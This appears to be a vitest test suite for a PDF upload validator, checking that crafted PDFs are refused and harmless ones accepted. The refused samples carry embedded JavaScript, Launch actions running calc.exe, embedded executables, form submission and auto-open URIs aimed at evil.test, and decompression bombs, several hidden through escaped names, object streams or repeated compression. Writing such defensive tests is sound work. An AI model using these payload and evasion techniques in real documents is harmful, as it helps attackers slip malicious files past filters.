import { deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { aPdf } from '../../../test/builders.ts';
import { withApp } from '../../../test/harness.ts';
import { aHandmadePdf, anEncryptedPdf, anObjectStream, aStream, ref } from '../../../test/pdf-bytes.ts';
import { aPerson } from '../../../test/people.ts';

const harness = withApp();

async function upload(body: Buffer) {
  const as = await aPerson(harness.context, 'mentor');
  const headers = { 'content-type': 'application/pdf' };
  const answer = await harness.send('/org-api/uploads', { method: 'POST', as, headers, body: new Uint8Array(body) });
  return {
    status: answer.status,
    body: (await answer.json()) as { detail: string; pages: number; fields: { pdf: string } },
  };
}

async function filesKept() {
  const kept: string[] = [];
  for await (const sha256 of harness.context.files.olderThan(new Date(Date.now() + 60_000))) kept.push(sha256);
  return kept;
}

async function expectRefused(pdf: Buffer, reason: RegExp) {
  const before = await filesKept();
  const { status, body } = await upload(pdf);
  expect([status, body.detail]).toEqual([422, 'Please select a valid PDF file']);
  expect(body.fields.pdf).toMatch(reason);
  expect(await harness.context.db.selectFrom('uploads').select('id').execute()).toEqual([]);
  expect(await filesKept()).toEqual(before);
}

const action = (type: string, rest = '') => `<< /Type /Action /S /${type} ${rest} >>`;
const script = action('JavaScript', '/JS (app.alert\\(1\\))');
const launch = action('Launch', '/F (calc.exe)');
const zeros = Buffer.alloc(70 * 1024 * 1024);

const notPdf = /not a PDF/;
const damaged = /damaged|1 to 500 pages/;
const scripts = /scripts/;
const starts = /starts a program/;
const files = /other files/;

test.each<[string, () => Buffer | Promise<Buffer>, RegExp]>([
  ['text', () => Buffer.from('just some text'), notPdf],
  ['a web page', () => Buffer.from('<!doctype html><script>alert(1)</script>'), notPdf],
  ['four bytes before the header', async () => Buffer.concat([Buffer.from('GIF8'), await aPdf()]), notPdf],
  ['a byte order mark before the header', async () => Buffer.concat([Buffer.from('\ufeff'), await aPdf()]), notPdf],
  ['nothing but the magic', () => Buffer.from('%PDF-'), damaged],
  ['the magic and a web page', () => Buffer.from('%PDF-1.7\n<html><script>alert(1)</script></html>'), damaged],
  ['half a file', async () => (await aPdf('One', 'Two')).subarray(0, 600), damaged],
  ['no pages', () => aHandmadePdf({ pageCount: 0 }), damaged],
  ['501 pages', () => aHandmadePdf({ pageCount: 501 }), /1 to 500 pages/],
  ['a page of 400 m', () => aHandmadePdf({ mediaBox: '[0 0 1133858 792]' }), /impossible size/],
  ['a page that is its own parent', () => aHandmadePdf({ page: '/Kids [3 0 R] /Count 1 /Type /Pages' }), damaged],
  ['a password to open it', () => anEncryptedPdf('secret'), /password/],
  ['a password to change it', () => anEncryptedPdf(), /password/],
])('SEC-46 %s is refused', (_, make, reason) => Promise.resolve(make()).then((pdf) => expectRefused(pdf, reason)));

test.each<[string, Buffer, RegExp]>([
  ['a script on opening', aHandmadePdf({ catalog: `/OpenAction ${script}` }), scripts],
  [
    'a script by name',
    aHandmadePdf({ catalog: `/Names << /JavaScript << /Names [(a) ${ref()}] >> >>`, objects: [script] }),
    scripts,
  ],
  ['a script on a page', aHandmadePdf({ page: `/AA << /O ${ref()} >>`, objects: [script] }), scripts],
  [
    'a script with an escaped name',
    aHandmadePdf({ catalog: '/OpenAction << /S /J#61va#53cript /J#53 (x) >>' }),
    scripts,
  ],
  ['a program on opening', aHandmadePdf({ catalog: `/OpenAction ${launch}` }), starts],
  [
    'a program behind a link',
    aHandmadePdf({ page: `/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A ${launch} >>]` }),
    starts,
  ],
  ['a program with an escaped name', aHandmadePdf({ objects: ['<< /S /#4caunch /F (calc.exe) >>'] }), starts],
  [
    'a file inside',
    aHandmadePdf({
      catalog: `/Names << /EmbeddedFiles << /Names [(a) ${ref()}] >> >>`,
      objects: [aStream('/Type /EmbeddedFile', 'MZ')],
    }),
    files,
  ],
  ['a file with an escaped name', aHandmadePdf({ objects: [aStream('/Type /Embedded#46ile', 'MZ')] }), files],
  [
    'a form program',
    aHandmadePdf({ catalog: `/AcroForm << /XFA ${ref()} >>`, objects: [aStream('', '<xdp/>')] }),
    /form program/,
  ],
  ['a form that sends data', aHandmadePdf({ objects: [action('SubmitForm', '/F (http://evil.test)')] }), /sends data/],
  ['a film', aHandmadePdf({ page: '/Annots [<< /Subtype /Movie /Rect [0 0 9 9] >>]' }), /media/],
  [
    'a web page on opening',
    aHandmadePdf({ catalog: `/OpenAction ${action('URI', '/URI (http://evil.test)')}` }),
    /by itself/,
  ],
  [
    'a web page on opening, one step away',
    aHandmadePdf({ catalog: `/OpenAction ${ref()}`, objects: [action('URI', '/URI (http://evil.test)')] }),
    /by itself/,
  ],
])('SEC-47 %s is refused', (_, pdf, reason) => expectRefused(pdf, reason));

test.each<[string, Buffer, RegExp]>([
  ['in an object stream', aHandmadePdf({ objects: [anObjectStream(launch)] }), starts],
  ['in an object stream, name escaped', aHandmadePdf({ objects: [anObjectStream('<< /S /L#61unch >>')] }), starts],
  [
    'in an object stream that is not packed',
    aHandmadePdf({ objects: [anObjectStream(launch, '', (data) => data)] }),
    starts,
  ],
  [
    'in an object stream as a script, not packed',
    aHandmadePdf({ objects: [anObjectStream('<< /JS (x) >>', '', (data) => data)] }),
    scripts,
  ],
  [
    'in an object stream packed twice',
    aHandmadePdf({
      objects: [anObjectStream(launch, '/Filter [/FlateDecode /Fl]', (data) => deflateSync(deflateSync(data)))],
    }),
    starts,
  ],
  [
    'in an object stream with a wrong checksum',
    aHandmadePdf({
      objects: [
        anObjectStream(launch, '/Filter /FlateDecode', (data) =>
          Buffer.concat([deflateSync(data).subarray(0, -4), Buffer.from('junk')]),
        ),
      ],
    }),
    starts,
  ],
  [
    'in an object stream whose dictionary pretends to be over',
    aHandmadePdf({ objects: [anObjectStream(launch, '/X ( obj) /Filter /FlateDecode')] }),
    starts,
  ],
  [
    'in an object stream written as hexadecimal',
    aHandmadePdf({
      objects: [anObjectStream(launch, '/Filter /ASCIIHexDecode', (data) => Buffer.from(`${data.toString('hex')}>`))],
    }),
    /unusual way/,
  ],
  [
    'in an object stream with an escaped type',
    Buffer.from(
      aHandmadePdf({ objects: [anObjectStream(launch, '/Filter /AHx', (data) => Buffer.from(data.toString('hex')))] })
        .toString('latin1')
        .replace('/ObjStm', '/Obj#53tm'),
      'latin1',
    ),
    /unusual way/,
  ],
  [
    'between what one reader takes for a stream',
    aHandmadePdf({ objects: [`<< /X 1 >>\n%stream\nendobj\n9 0 obj\n${launch}\n%endstream`] }),
    starts,
  ],
])('SEC-47 a program hidden %s is refused', (_, pdf, reason) => expectRefused(pdf, reason));

test.each<[string, () => Buffer]>([
  ['once', () => aHandmadePdf({ objects: [aStream('/Filter /FlateDecode', deflateSync(zeros))] })],
  [
    'twice',
    () => aHandmadePdf({ objects: [aStream('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(zeros)))] }),
  ],
  [
    'in parts',
    () =>
      aHandmadePdf({
        objects: Array.from({ length: 8 }, () =>
          aStream('/Filter /FlateDecode', deflateSync(zeros.subarray(0, 9_000_000))),
        ),
      }),
  ],
  ['without saying so', () => aHandmadePdf({ objects: [aStream('', deflateSync(zeros))] })],
])('SEC-48 a bomb packed %s is refused', async (_, make) => {
  const pdf = make();
  expect(pdf.length).toBeLessThan(100_000);
  await expectRefused(pdf, /far more than its size/);
});

test.each<[string, Buffer]>([
  ['a place to open at', aHandmadePdf({ catalog: '/OpenAction [3 0 R /XYZ null null 0]' })],
  [
    'an action that goes to a page',
    aHandmadePdf({ catalog: `/OpenAction ${ref()}`, objects: [action('GoTo', '/D [3 0 R /Fit]')] }),
  ],
  [
    'a link to a web page',
    aHandmadePdf({
      page: `/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A ${action('URI', '/URI (https://example.org)')} >>]`,
    }),
  ],
  ['a harmless object stream', aHandmadePdf({ objects: [anObjectStream('<< /Title (Nothing) >>')] })],
  [
    'pictures that contain the short names by chance',
    aHandmadePdf({ objects: [aStream('/Type /XObject', Buffer.from('\x01/JS \x02/XFA \x03/AA', 'latin1'))] }),
  ],
  ['names that only begin alike', aHandmadePdf({ objects: ['<< /LaunchPad 1 /JSON 2 /Soundly 3 /XFAX 4 >>'] })],
])('SEC-47 %s is accepted', async (_, pdf) => {
  const { status, body } = await upload(pdf);
  expect([status, body.fields, body.pages]).toEqual([201, undefined, 1]);
});

test('SEC-46 1 and 500 pages are accepted and counted', async () => {
  expect((await upload(aHandmadePdf())).body.pages).toBe(1);
  expect((await upload(aHandmadePdf({ pageCount: 500 }))).body.pages).toBe(500);
  expect((await upload(aHandmadePdf({ mediaBox: '[0 0 14400 14400]' }))).status).toBe(201);
});
